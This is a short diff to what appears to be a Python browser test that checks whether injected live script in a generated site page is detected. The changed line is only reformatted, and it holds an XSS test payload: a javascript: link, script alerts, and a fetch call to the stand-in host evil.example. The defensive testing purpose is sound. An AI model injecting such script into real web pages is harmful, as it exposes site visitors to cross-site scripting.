@@ -216,7 +216,9 @@ def test_what_lives_would_be_seen(folder: Path, chromium: Browser) -> None:
     corpora.write(folder, corpora.sources())
     assert _publish(folder) == []
     page = folder / "build/site/so-lieu.html"
-    hostile = '<a href="javascript:alert(1)">a</a><p id="x"></p><script>alert(2); fetch("https://evil.example/")</script>'
+    hostile = (
+        '<a href="javascript:alert(1)">a</a><p id="x"></p><script>alert(2); fetch("https://evil.example/")</script>'
+    )
     page.write_text(page.read_text(encoding="utf-8").replace("</article>", hostile + "</article>"), encoding="utf-8")
     found = "\n".join(_live(folder / "build/site", chromium))
     assert "dialog on file://" in found
